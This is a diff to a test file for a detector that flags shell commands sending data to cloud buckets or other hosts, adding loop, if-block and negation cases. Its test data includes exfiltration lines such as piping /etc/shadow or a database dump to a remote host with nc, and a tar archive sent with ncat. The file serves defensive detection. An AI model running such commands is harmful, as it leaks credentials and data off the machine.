@@ -55,6 +55,7 @@ describe("a cloud CLI's copy to a bucket", () => {
     ["aws s3 cp /data s3://$BUCKET/x", "aws s3 → unread s3://$BUCKET/x"],
     // A command line recorded without its quotes: the shell's words are the command.
     ["/bin/sh -c aws s3 cp dump.sql s3://archive/", "aws s3 → s3 bucket archive"],
+    ["for f in *.gz; do aws s3 cp $f s3://archive/; done", "aws s3 → s3 bucket archive"],
   ])("%s sends to the bucket", (line, expected) => {
     expect(sends(line)).toEqual([expected]);
   });
@@ -90,6 +91,10 @@ describe("a copy to another machine, or a raw connection", () => {
     ["nc -w 3 logs.example.com 9000 < /tmp/dump.sql", "nc → host logs.example.com"],
     ["cat /etc/shadow | nc 203.0.113.9 4444", "nc → host 203.0.113.9"],
     ['sh -c "tar cz /data | ncat collector.example.com 9000"', "nc → host collector.example.com"],
+    // After the shell's reserved words (found by the old-against-new bench: a loop's copy passed).
+    ["for f in /data/*; do scp $f h.example.de:/x/; done", "scp → host h.example.de"],
+    ["if test -f db.tgz; then rsync db.tgz h.example.de:/x; fi", "rsync → host h.example.de"],
+    ["! nc 203.0.113.9 4444 < /tmp/dump.sql", "nc → host 203.0.113.9"],
   ])("%s sends to the host", (line, expected) => {
     expect(sends(line)).toEqual([expected]);
   });
@@ -104,6 +109,8 @@ describe("a copy to another machine, or a raw connection", () => {
     "nc -z db.example.de 5432",
     "nc -l 9000",
     "until nc -z -w 2 postgres 5432; do sleep 1; done",
+    // A Windows drive is a local path, not a host "c".
+    "scp C:/backups/db.tgz D:/archive/",
   ])("twin: %s sends nothing", (line) => {
     expect(sends(line)).toEqual([]);
   });
